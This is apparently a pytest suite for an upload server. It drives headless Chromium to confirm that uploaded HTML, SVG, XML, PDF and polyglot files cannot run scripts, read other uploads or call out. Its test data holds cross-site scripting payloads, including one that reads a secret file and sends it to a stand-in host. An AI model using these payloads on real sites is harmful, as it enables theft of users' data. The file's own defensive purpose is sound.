"""Uploaded files in a real browser: whatever they hold, none of it runs, reads other uploads or calls home.

The same files from a server without the daemon's headers do all that, which shows that the test would see it.
"""

from __future__ import annotations

import base64
import html
import json
import os
import select
import shutil
import signal
import subprocess
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.support import DEADLINE, Daemon, eventually, need, v, v2

FLAGS = """
    --headless --no-sandbox --disable-gpu --disable-quic --disable-dev-shm-usage --no-first-run --mute-audio
    --disable-background-networking --disable-component-update --disable-sync --disable-extensions
    --remote-debugging-pipe
""".split()
ONLY_LOCAL = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"

SECRET_TEXT = "nobody-reads-this"
SECRET_PATH = "other/secret.txt"

# What a file tries. $B is where it calls home to; $L says which file it is.
SCRIPT = f"""
    new Image().src = "$B/script/$L";
    navigator.sendBeacon("$B/beacon/$L");
    fetch("/upload/own/$L.png");
    fetch("/upload/{SECRET_PATH}").then(answer => answer.text()).then(text => fetch("$B/stolen/$L/" + text));
    try {{ parent.document.title = "taken"; fetch("$B/parent/$L"); }} catch (error) {{ }}
"""
HTML = f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="30; url=$B/refresh/$L">
<link rel="stylesheet" href="$B/css/$L"><link rel="prefetch" href="$B/prefetch/$L"><style>@import "$B/import/$L";
@font-face {{ font-family: x; src: url($B/font/$L) }} body {{ font-family: x; background: url($B/back/$L) }}</style>
<script>{SCRIPT}</script><script src="$B/src/$L"></script></head>
<body onload="fetch('$B/onload/$L')"><p>hello</p><img src="$B/img/$L"><img src="/upload/own/$L.gif">
<img src="x:" onerror="fetch('$B/onerror/$L')"><video src="$B/video/$L" autoplay></video><iframe src="$B/frame/$L">
</iframe><object data="$B/object/$L"></object><embed src="$B/embed/$L"><svg onload="fetch('$B/svg/$L')"></svg>
<form id="f" action="$B/form/$L" target="_blank" method="post"></form></body></html>"""
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"
onload="fetch('$B/onload/$L')"><script><![CDATA[{SCRIPT}]]></script>
<image xlink:href="$B/img/$L" width="9" height="9"/><style>@import "$B/import/$L";</style>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="$B/frame/$L"/></foreignObject>
</svg>"""
XHTML = f"""<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<script><![CDATA[{SCRIPT}]]></script></head><body><img src="$B/img/$L"/><iframe src="$B/frame/$L"/></body></html>"""
XSLT = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="$B/xsl/$L"?>
<?xml-stylesheet type="text/css" href="$B/css/$L"?><!DOCTYPE x [<!ENTITY e SYSTEM "$B/entity/$L">]><x>&e;</x>"""
PDF = """%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>> endobj
2 0 obj <</Type/Pages/Kids[4 0 R]/Count 1>> endobj
3 0 obj <</S/JavaScript/JS(app.launchURL\\("$B/launch/$L"\\); this.submitForm\\("$B/submit/$L"\\);)>> endobj
4 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI($B/uri/$L)>>>>>> endobj
trailer <</Root 1 0 R>>
%%EOF
"""
GIF_SCRIPT = f"GIF89a=1;{SCRIPT}"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

# A name, the type that was signed (none: v signs no type), the content, and the type without our headers (none: the
# browser guesses).
Case = tuple[str, str, str, str]
CASES: list[Case] = [
    ("page.html", "", HTML, "text/html"),
    ("typed.html", "text/html", HTML, "text/html"),
    ("charset.htm", "text/html; charset=utf-7", HTML, "text/html; charset=utf-8"),
    ("upper.bin", "TEXT/HTML", HTML, "TEXT/HTML"),
    ("two-types", "text/html, text/plain", HTML, "text/html"),
    ("not-a-type", "html", HTML, ""),
    ("plain.txt", "text/plain", HTML, ""),
    ("picture.png", "image/png", HTML, ""),
    ("guess", "", HTML, ""),
    ("unknown", "*/*", HTML, ""),
    ("polyglot.pdf", "", HTML + PDF, ""),
    ("polyglot.zip", "", HTML + "PK\x03\x04", ""),
    ("drawing.svg", "", SVG, "image/svg+xml"),
    ("typed.svg", "image/svg+xml", SVG, "image/svg+xml"),
    ("page.xhtml", "", XHTML, "application/xhtml+xml"),
    ("data.xml", "", XHTML, "application/xml"),
    ("typed.xml", "text/xml", XHTML, "text/xml"),
    ("drawing.xml", "application/xml", SVG, "application/xml"),
]
WITHOUT_SCRIPT: list[Case] = [
    ("style.xml", "text/xml", XSLT, "text/xml"),
    ("feed.xml", "application/rss+xml", XHTML, "application/rss+xml"),
    ("document.pdf", "application/pdf", PDF, "application/pdf"),
    ("multipart", "multipart/x-mixed-replace; boundary=x", "--x\r\nContent-Type: text/html\r\n\r\n" + HTML, ""),
    ("mail.mht", "message/rfc822", "Content-Type: text/html\r\n\r\n" + HTML, ""),
    ("script.gif", "image/gif", GIF_SCRIPT, ""),
    ("script.txt", "text/plain", SCRIPT, ""),
    ("script.bin", "", SCRIPT, ""),
]
"""What a browser may not run even from a server without our headers, when it is opened."""


LEADS_AWAY = '<!doctype html><meta http-equiv="refresh" content="0; url=$B/away/$L"><script></script>'


class Elsewhere:
    """Another site. It notes who calls, serves pages that embed files, and the same files without our headers."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self.pages: dict[str, tuple[dict[str, str], bytes]] = {}
        elsewhere = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                elsewhere.calls.append(self.path)
                headers, body = elsewhere.pages.get(self.path, ({"Content-Type": "text/plain"}, b""))
                self.send_response(200)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.origin = f"http://localhost:{self.server.server_port}"
        self.page(f"/upload/{SECRET_PATH}", "text/plain", SECRET_TEXT.encode())
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def content(self, text: str, label: str) -> bytes:
        """A file that calls here."""
        return text.replace("$B", self.origin).replace("$L", label).encode()

    def page(self, path: str, media_type: str, body: bytes, **headers: str) -> str:
        """Serve a page; its URL."""
        given = {"Content-Type": media_type} if media_type else {}
        self.pages[path] = (given | {name.replace("_", "-"): value for name, value in headers.items()}, body)
        return self.origin + path

    def called(self, *tricks: str, label: str) -> bool:
        """Whether each of the tricks of a file worked."""
        return all(any(call.startswith(f"/{trick}/{label}") for call in self.calls) for trick in tricks)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Browser:
    """A Chromium, told what to do over its DevTools protocol."""

    def __init__(self, folder: Path) -> None:
        theirs_in, self._out = os.pipe()
        self._in, theirs_out = os.pipe()
        program = shutil.which("chromium")
        assert program
        command = [program, *FLAGS, ONLY_LOCAL, f"--user-data-dir={folder / 'profile'}", "about:blank"]
        # The protocol comes at descriptors 3 and 4.
        shell = ["bash", "-c", f'exec "$@" 3<&{theirs_in} 4>&{theirs_out}', "bash"]
        with (folder / "chromium.output").open("wb") as log:
            self.process = subprocess.Popen(
                [*shell, *command],
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
                pass_fds=(theirs_in, theirs_out),
                start_new_session=True,
                env={**os.environ, "HOME": str(folder)},
            )
        os.close(theirs_in)
        os.close(theirs_out)
        self._number = 0
        self._buffer = b""
        self.events: list[dict[str, Any]] = []
        self.ask("Browser.getVersion")

    def ask(self, method: str, session: str = "", **parameters: Any) -> dict[str, Any]:
        """Call a method and wait for its result."""
        self._number += 1
        message: dict[str, Any] = {"id": self._number, "method": method, "params": parameters}
        if session:
            message["sessionId"] = session
        os.write(self._out, json.dumps(message).encode() + b"\0")
        while True:
            answer = self._message()
            if answer.get("id") == self._number:
                assert "error" not in answer, (method, answer["error"])
                return dict(answer["result"])
            self.events.append(answer)

    def wait_for(self, method: str, session: str | None = None, **parameters: Any) -> None:
        """Wait for an event, which may have come already."""
        while not any(
            event["method"] == method
            and event.get("sessionId") == session
            and parameters.items() <= event["params"].items()
            for event in self.events
        ):
            self.events.append(self._message())

    def _message(self) -> dict[str, Any]:
        end = time.monotonic() + DEADLINE * 2
        while b"\0" not in self._buffer:
            ready, _, _ = select.select([self._in], [], [], max(0, end - time.monotonic()))
            assert ready, "the browser does not answer"
            data = os.read(self._in, 1 << 20)
            assert data, f"the browser ended with {self.process.wait()}"
            self._buffer += data
        message, _, self._buffer = self._buffer.partition(b"\0")
        return dict(json.loads(message))

    def open(self, url: str) -> tuple[str, str]:
        """Open a page in a new tab until it is loaded; the tab, and why it could not be shown."""
        target = self.ask("Target.createTarget", url="about:blank")["targetId"]
        session = self.ask("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        self.ask("Page.enable", session)
        error = self.ask("Page.navigate", session, url=url).get("errorText", "")
        if not error:
            self.wait_for("Page.loadEventFired", session)
        return session, error

    def value(self, session: str, expression: str) -> Any:
        """What a script in a page gives."""
        result = self.ask("Runtime.evaluate", session, expression=expression, awaitPromise=True, returnByValue=True)
        return result["result"].get("value")

    def close(self) -> None:
        os.killpg(self.process.pid, signal.SIGKILL)
        self.process.wait()
        os.close(self._in)
        os.close(self._out)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    need("chromium")
    made = Browser(tmp_path_factory.mktemp("browser"))
    # Downloads are what saves us here; they must be taken, not refused by the browser of this test.
    folder = str(tmp_path_factory.mktemp("downloads"))
    made.ask("Browser.setDownloadBehavior", behavior="allow", downloadPath=folder, eventsEnabled=True)
    yield made
    made.close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    made = Elsewhere()
    yield made
    made.close()


def upload(daemon: Daemon, path: str, body: bytes, media_type: str = "") -> str:
    """Put a file; its URL."""
    if media_type:
        target = f"/upload/{quote(path)}?v2={v2(path, len(body), media_type)}"
        answer = daemon.request("PUT", target, body, Content_Type=media_type)
    else:
        answer = daemon.request("PUT", f"/upload/{quote(path)}?v={v(path, len(body))}", body)
    assert answer.status == 201
    return f"http://127.0.0.1:{daemon.port}/upload/{quote(path)}"


def upload_all(daemon: Daemon, elsewhere: Elsewhere) -> dict[str, str]:
    """The URLs of all hostile files, by their names."""
    upload(daemon, SECRET_PATH, SECRET_TEXT.encode())
    return {
        name: upload(daemon, f"slot/{name}", elsewhere.content(text, name), media_type)
        for name, media_type, text, _ in CASES + WITHOUT_SCRIPT
    }


def nothing_happened(browser: Browser, elsewhere: Elsewhere, ours: set[str]) -> None:
    """After a harmful page without our headers had the time for its harm, no other page has done any."""
    page = elsewhere.page("/control.html", "text/html", elsewhere.content(HTML, "control"))
    browser.open(page)
    eventually(lambda: elsewhere.called("script", "beacon", "stolen", "img", "onload", label="control"))
    calls = [call for call in elsewhere.calls if "control" not in call and call not in ours]
    assert [call for call in calls if call not in ("/favicon.ico", f"/upload/{SECRET_PATH}")] == []


def test_opened_directly(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """A file that is opened like a page is saved or shown as text or picture; no script runs, nothing is fetched."""
    urls = upload_all(daemon, elsewhere)
    for name, url in urls.items():
        session, error = browser.open(url)
        eventually(lambda name=name: f"GET /upload/slot/{name} 200" in daemon.log)
        if error:
            assert error == "net::ERR_ABORTED", name  # this is how a download ends
            browser.wait_for("Browser.downloadWillBegin", url=url)
        else:
            assert name in {"plain.txt", "picture.png", "script.gif", "script.txt"}
            assert browser.value(session, "document.querySelectorAll('script, iframe, form').length") == 0
    nothing_happened(browser, elsewhere, set())
    assert "/upload/own/" not in daemon.log
    assert f"GET /upload/{SECRET_PATH}" not in daemon.log


def test_the_policy_alone_would_do(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """Even a browser that shows what it should save runs and fetches nothing: the policy forbids it."""
    upload(daemon, "slot/page.html", b"hello")
    policy = daemon.get("slot/page.html").headers["content-security-policy"]
    paths = set()
    for name, _, text, media_type in [*CASES, ("away.html", "", LEADS_AWAY, "text/html")]:
        content = elsewhere.content(text, name)
        session, error = browser.open(
            elsewhere.page(f"/{name}", media_type or "text/html", content, Content_Security_Policy=policy)
        )
        assert not error
        assert browser.value(session, "document.querySelectorAll('script').length") > 0
        paths.add(f"/{name}")
    browser.open(elsewhere.page("/control-away.html", "text/html", elsewhere.content(LEADS_AWAY, "control")))
    eventually(lambda: elsewhere.called("away", label="control"))
    nothing_happened(browser, elsewhere, paths)


def test_embedded_in_a_page(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """A page of another site can not make a file run by embedding it, in whatever way."""
    urls = upload_all(daemon, elsewhere)
    elements = [
        f'<{start} {attribute}="{html.escape(url)}">{end}'
        for url in urls.values()
        for start, attribute, end in (
            ("iframe", "src", "</iframe>"),
            ("object", "data", "</object>"),
            ("embed", "src", ""),
            ("img", "src", ""),
            ("video autoplay", "src", "</video>"),
            ('link rel="stylesheet"', "href", ""),
            ("script", "src", "</script>"),
        )
    ]
    page = elsewhere.page("/page.html", "text/html", f"<!doctype html><body>{''.join(elements)}</body>".encode())
    session, error = browser.open(page)
    assert not error
    for name in urls:
        eventually(lambda name=name: f"GET /upload/slot/{name} 200" in daemon.log)
    assert browser.value(session, "document.title") == ""
    nothing_happened(browser, elsewhere, {"/page.html"})
    assert "/upload/own/" not in daemon.log
    assert f"GET /upload/{SECRET_PATH}" not in daemon.log


def test_harmless_files_are_shown(browser: Browser, daemon: Daemon, elsewhere: Elsewhere) -> None:
    """Pictures are shown by pages of other sites, and web clients can fetch what was uploaded."""
    picture = upload(daemon, "slot/real.png", PNG)
    text = upload(daemon, "slot/real.txt", b"hello")
    session, error = browser.open(elsewhere.page("/page.html", "text/html", f'<img src="{picture}">'.encode()))
    assert not error
    assert browser.value(session, "document.images[0].naturalWidth") == 1
    assert browser.value(session, f"fetch({json.dumps(text)}).then(answer => answer.text())") == "hello"
    session, error = browser.open(picture)
    assert not error
    assert browser.value(session, "document.images[0].naturalWidth") == 1


@pytest.mark.parametrize("case", CASES, ids=[case[0] for case in CASES])
def test_the_proof_can_fail(browser: Browser, elsewhere: Elsewhere, case: Case) -> None:
    """Without the daemon's headers each of the files runs and calls, opened and in a frame."""
    name, _, text, media_type = case
    opened = elsewhere.page(f"/opened/{name}", media_type, elsewhere.content(text, f"opened-{name}"))
    framed = elsewhere.page(f"/framed/{name}", media_type, elsewhere.content(text, f"framed-{name}"))
    page = f'<!doctype html><iframe src="{framed}"></iframe>'.encode()
    browser.open(opened)
    browser.open(elsewhere.page("/page.html", "text/html", page))
    for label in (f"opened-{name}", f"framed-{name}"):
        eventually(
            lambda label=label: (
                elsewhere.called("script", "stolen", label=label) and f"/upload/own/{label}.png" in elsewhere.calls
            ),
            what=label,
        )


def test_the_proof_for_what_is_no_page_can_fail(browser: Browser, elsewhere: Elsewhere) -> None:
    """Without the daemon's headers a picture or text that is also a script runs as one, and a page leads away."""
    browser.open(elsewhere.page("/away.html", "text/html", elsewhere.content(LEADS_AWAY, "control")))
    eventually(lambda: elsewhere.called("away", label="control"))
    for name, text in (("script.gif", GIF_SCRIPT), ("script.txt", SCRIPT)):
        source = elsewhere.page(f"/{name}", "", elsewhere.content(text, name))
        browser.open(elsewhere.page("/page.html", "text/html", f'<script src="{source}"></script>'.encode()))
        eventually(lambda name=name: elsewhere.called("script", "stolen", label=name), what=name)
